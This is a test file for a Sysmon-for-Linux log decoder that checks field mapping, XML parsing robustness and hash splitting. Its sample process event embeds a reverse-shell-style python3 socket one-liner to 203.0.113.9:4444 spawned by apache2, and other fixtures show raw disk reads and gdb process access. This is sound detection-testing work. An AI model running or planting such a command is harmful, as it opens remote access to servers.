import { parseHashes, sysmonLinux, sysmonTime } from '../../../../pipeline/decoders/builtin/sysmon-linux';
import { decodeEntities, parseXml } from '../../../../pipeline/decoders/builtin/xml';
import { neverThrows } from './property';

const SYSTEM = (id: number) =>
  `<System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>${id}</EventID><Version>5</Version><Level>4</Level><Task>${id}</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="2024-03-05T09:12:44.331017000Z"/><EventRecordID>5521</EventRecordID><Correlation/><Execution ProcessID="812" ThreadID="812"/><Channel>Linux-Sysmon/Operational</Channel><Computer>db-01</Computer><Security UserId="0"/></System>`;
const ev = (id: number, data: Record<string, string>) =>
  `<Event>${SYSTEM(id)}<EventData>${Object.entries(data).map(([k, v]) => `<Data Name="${k}">${v}</Data>`).join('')}</EventData></Event>`;

const PROC = ev(1, {
  RuleName: '-', UtcTime: '2024-03-05 09:12:44.335', ProcessGuid: '{9d3b1c1e-e3ac-65e6-8d71-2a1b00000000}', ProcessId: '24017',
  Image: '/usr/bin/python3.10', FileVersion: '-', Description: '-', Product: '-', Company: '-', OriginalFileName: '-',
  CommandLine: `python3 -c 'import socket,os;s=socket.socket();s.connect(("203.0.113.9",4444))'`, CurrentDirectory: '/tmp',
  User: 'www-data', LogonGuid: '{9d3b1c1e-0000-0000-2100-000000000000}', LogonId: '33', TerminalSessionId: '4294967295',
  IntegrityLevel: 'no level', Hashes: 'SHA256=5D5D6E2CE4B4D8A2E49F8B7C1C0A9E3F2B1D0C9E8F7A6B5C4D3E2F1A0B9C8D7E',
  ParentProcessGuid: '{9d3b1c1e-e3ab-65e6-0d55-b8ad00000000}', ParentProcessId: '24001', ParentImage: '/usr/sbin/apache2',
  ParentCommandLine: '/usr/sbin/apache2 -k start', ParentUser: 'www-data',
});
const NET6 = ev(3, {
  RuleName: 'c2', UtcTime: '2024-03-05 09:12:45.001', ProcessGuid: '{9d3b1c1e-e3ac-65e6-8d71-2a1b00000000}', ProcessId: '24017',
  Image: '/usr/bin/python3.10', User: 'www-data', Protocol: 'udp', Initiated: 'false', SourceIsIpv6: 'true', SourceIp: '2001:db8::10',
  SourceHostname: 'client.example.net', SourcePort: '5353', SourcePortName: '-', DestinationIsIpv6: 'true', DestinationIp: 'ff02::fb',
  DestinationHostname: '-', DestinationPort: '5353', DestinationPortName: 'mdns',
});
const RAW = ev(9, { RuleName: '-', UtcTime: '2024-03-05 09:13:00.000', ProcessGuid: '{9d3b1c1e-0000-0000-0000-000000000001}', ProcessId: '900', Image: '/usr/bin/dd', Device: '/dev/sda', User: 'root' });
const SVC = ev(4, { UtcTime: '2024-03-05 09:00:00.000', State: 'Started', Version: '1.3.2', SchemaVersion: '4.81' });
const ACCESS = ev(10, {
  RuleName: '-', UtcTime: '2024-03-05 09:14:00.000', SourceProcessGUID: '{aa}', SourceProcessId: '777', SourceThreadId: '777', SourceImage: '/usr/bin/gdb',
  TargetProcessGUID: '{bb}', TargetProcessId: '1', TargetImage: '/usr/lib/systemd/systemd', GrantedAccess: '0x10', CallTrace: '-', SourceUser: 'root', TargetUser: 'root',
});

const decode = (message: string) => sysmonLinux.decode({ message, program: 'sysmon' });
const fields = (message: string) => {
  const r = decode(message);
  if (!r || !r.ok) throw new Error(`not decoded: ${r ? r.reason : 'null'}`);
  expect(r.dataset).toBe('sysmon_linux.log');
  return r.fields;
};

describe('sysmon-linux decoder', () => {
  it('maps a process creation to the fields rules/mappings/linux-sysmon.yml expects', () => {
    const f = fields(PROC);
    expect(f).toMatchObject({
      'event.kind': 'event', 'event.code': '1', 'event.category': ['process'], 'event.type': ['start'], 'event.action': 'process-created',
      'process.executable': '/usr/bin/python3.10', 'process.name': 'python3.10', 'process.pid': 24017,
      'process.entity_id': '{9d3b1c1e-e3ac-65e6-8d71-2a1b00000000}', 'process.working_directory': '/tmp',
      'process.parent.executable': '/usr/sbin/apache2', 'process.parent.name': 'apache2', 'process.parent.pid': 24001,
      'process.parent.command_line': '/usr/sbin/apache2 -k start', 'process.parent.args': ['/usr/sbin/apache2', '-k', 'start'],
      'process.parent.entity_id': '{9d3b1c1e-e3ab-65e6-0d55-b8ad00000000}', 'process.parent.user.name': 'www-data',
      'user.name': 'www-data', 'sysmon.logon_id': '33', 'sysmon.logon_guid': '{9d3b1c1e-0000-0000-2100-000000000000}',
      'sysmon.terminal_session_id': 4294967295, 'sysmon.event_id': 1, 'sysmon.record_id': 5521, 'host.name': 'db-01',
      'process.hash.sha256': '5d5d6e2ce4b4d8a2e49f8b7c1c0a9e3f2b1d0c9e8f7a6b5c4d3e2f1a0b9c8d7e',
      'sysmon.event_created': '2024-03-05T09:12:44.335Z', 'related.user': ['www-data'], 'related.hosts': ['db-01'],
    });
    expect(f['process.command_line']).toBe(`python3 -c 'import socket,os;s=socket.socket();s.connect(("203.0.113.9",4444))'`);
    expect(f['process.args']).toEqual(['python3', '-c', 'import socket,os;s=socket.socket();s.connect(("203.0.113.9",4444))']);
    // '-' is Sysmon's "no value": PE metadata never mapped.
    expect(f['sysmon.rule_name']).toBeUndefined();
    expect(f['sysmon.data.Company']).toBeUndefined();
    expect(f['sysmon.data.Image']).toBeUndefined(); // mapped values are not repeated raw
  });

  it('maps an inbound IPv6 connection', () => {
    const f = fields(NET6);
    expect(f).toMatchObject({
      'network.transport': 'udp', 'network.direction': 'ingress', 'network.type': 'ipv6', 'source.ip': '2001:db8::10', 'source.port': 5353,
      'source.domain': 'client.example.net', 'destination.ip': 'ff02::fb', 'destination.port': 5353, 'sysmon.destination_port_name': 'mdns',
      'sysmon.rule_name': 'c2', 'sysmon.source_is_ipv6': 'true', 'related.ip': ['2001:db8::10', 'ff02::fb'],
    });
    expect(f['destination.domain']).toBeUndefined();
  });

  it('maps raw access read, service state, process access', () => {
    expect(fields(RAW)).toMatchObject({ 'event.category': ['driver'], 'event.type': ['info'], 'file.path': '/dev/sda', 'sysmon.device': '/dev/sda', 'process.name': 'dd' });
    expect(fields(SVC)).toMatchObject({ 'event.code': '4', 'sysmon.state': 'Started', 'sysmon.schema_version': '4.81', 'service.version': '1.3.2' });
    expect(fields(ACCESS)).toMatchObject({
      'process.executable': '/usr/bin/gdb', 'process.pid': 777, 'process.entity_id': '{aa}', 'sysmon.target_process.pid': 1,
      'sysmon.target_process.name': 'systemd', 'sysmon.granted_access': '0x10', 'user.name': 'root', 'sysmon.data.SourceThreadId': '777',
    });
  });

  it('accepts a prologue, whitespace, namespaces and CDATA', () => {
    const xml = `<?xml version="1.0"?>\n<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event">\n  ${SYSTEM(11)}\n  <EventData><!-- c --><Data Name="TargetFilename"><![CDATA[/tmp/<odd>.txt]]></Data><Data Name="ProcessId">5</Data></EventData>\n</Event>\n`;
    expect(fields(xml)).toMatchObject({ 'file.path': '/tmp/<odd>.txt', 'file.name': '<odd>.txt', 'process.pid': 5 });
  });

  it('decodes numeric entities and leaves unknown ones', () => {
    expect(decodeEntities('a&#65;&#x42;&lt;&gt;&amp;&quot;&apos;&nbsp;&#0;')).toBe('aAB<>&"\'&nbsp;&#0;');
  });

  it('returns null for messages that are not Sysmon XML', () => {
    expect(decode('sysmon started')).toBeNull();
    expect(decode('<Other><a/></Other>')).toBeNull();
    expect(decode('<Event><System><Provider Name="Microsoft-Windows-Security-Auditing"/><EventID>4624</EventID></System></Event>')).toBeNull();
  });

  it('fails (never throws) on broken XML', () => {
    for (const bad of [PROC.slice(0, PROC.length - 9), PROC.replace('</System>', '</Sys>'), '<Event><System><EventID>x</EventID></System></Event>', '<Event><EventData/></Event>', '<Event><System/></Event><Event/>', '<Event a=b></Event>']) {
      const r = decode(bad);
      expect(r).not.toBeNull();
      expect(r!.ok).toBe(false);
    }
  });

  it('bounds nesting depth', () => {
    expect(parseXml('<a>'.repeat(100) + '</a>'.repeat(100)).ok).toBe(false);
  });

  it('splits Hashes and converts UtcTime', () => {
    expect(parseHashes('SHA1=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA,MD5=0123456789abcdef0123456789ABCDEF,IMPHASH=00000000000000000000000000000000')).toEqual([
      ['sha1', 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'], ['md5', '0123456789abcdef0123456789abcdef'],
    ]);
    expect(sysmonTime('2021-10-18 13:32:21.250')).toBe('2021-10-18T13:32:21.250Z');
    expect(sysmonTime('garbage')).toBeUndefined();
  });

  neverThrows(sysmonLinux, [PROC, NET6, RAW, ACCESS], 'sysmon');
});
